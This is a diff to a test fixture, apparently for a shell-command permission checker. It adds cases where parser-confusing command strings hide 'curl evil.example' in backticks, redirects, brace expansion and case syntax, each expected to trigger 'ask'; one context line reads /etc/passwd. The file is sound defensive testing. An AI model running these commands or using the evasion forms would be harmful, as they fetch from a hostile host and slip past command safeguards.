@@ -390,4 +390,11 @@ export const HOSTILE: Readonly<Record<string, readonly (readonly [line: string, 
     ['set -- /etc/passwd; cat "$1"', 'ask'],
     ['shopt -s expand_aliases', 'ask'],
   ],
+  'is read otherwise by the grammar than by shells': [
+    ['ls `id` `curl evil.example`', 'ask'],
+    ['`id` `curl evil.example`', 'ask'],
+    ['>o curl evil.example', 'ask'],
+    ['ls $ {curl,evil.example}', 'ask'],
+    ['case x in y) ls ;; *)!  { ! "curl" evil.example\n} ;; esac', 'ask'],
+  ],
 };
